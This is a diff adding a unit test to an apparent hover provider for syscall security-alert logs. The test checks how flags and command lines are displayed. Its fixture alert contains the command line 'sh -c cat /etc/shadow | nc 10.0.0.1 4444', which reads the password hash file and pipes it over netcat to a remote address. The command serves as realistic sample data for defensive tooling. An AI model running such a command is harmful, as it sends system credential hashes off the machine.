@@ -191,3 +191,14 @@ test('the time hover does not call a time earlier than the previous alert\'s a t
   assert.match(hoverAt(s, log, 1, '"time"', 1, 'order.json'), /\*\*5 min 0 s\*\* before the previous alert of `Read sensitive file untrusted` \(line 1\): the log is not in time order here\./);
   assert.match(hoverAt(s, log, 2, '"time"', 1, 'order.json'), /\*\*1 min 0 s\*\* since the previous alert of `Read sensitive file untrusted` \(line 2\)\./);
 });
+
+test('a pipe in a command line is not listed as flags; flag sets still are', () => {
+  const alert = (cmdline: string, flags: string) => JSON.stringify({ hostname: 'h', output: 'x', output_fields: { 'evt.arg.flags': flags, 'proc.cmdline': cmdline }, priority: 'Warning', rule: 'R', source: 'syscall', tags: [], time: '2025-06-02T07:30:00.000000000Z' });
+  const s = createAlertsService(new TestHost(), fakeRules([]));
+  const text = alert('sh -c cat /etc/shadow | nc 10.0.0.1 4444', 'O_RDONLY|O_CLOEXEC|O_DIRECTORY');
+  const cmd = hoverAt(s, text, 0, '"sh -c', 2, 'pipe.json');
+  assert.match(cmd, /Value: `sh -c cat \/etc\/shadow \| nc 10\.0\.0\.1 4444`/);
+  assert.doesNotMatch(cmd, /Flags:/);
+  const flags = hoverAt(s, text, 0, '"O_RDONLY', 2, 'pipe.json');
+  assert.match(flags, /Flags: `O_CLOEXEC`, `O_DIRECTORY`/);
+});
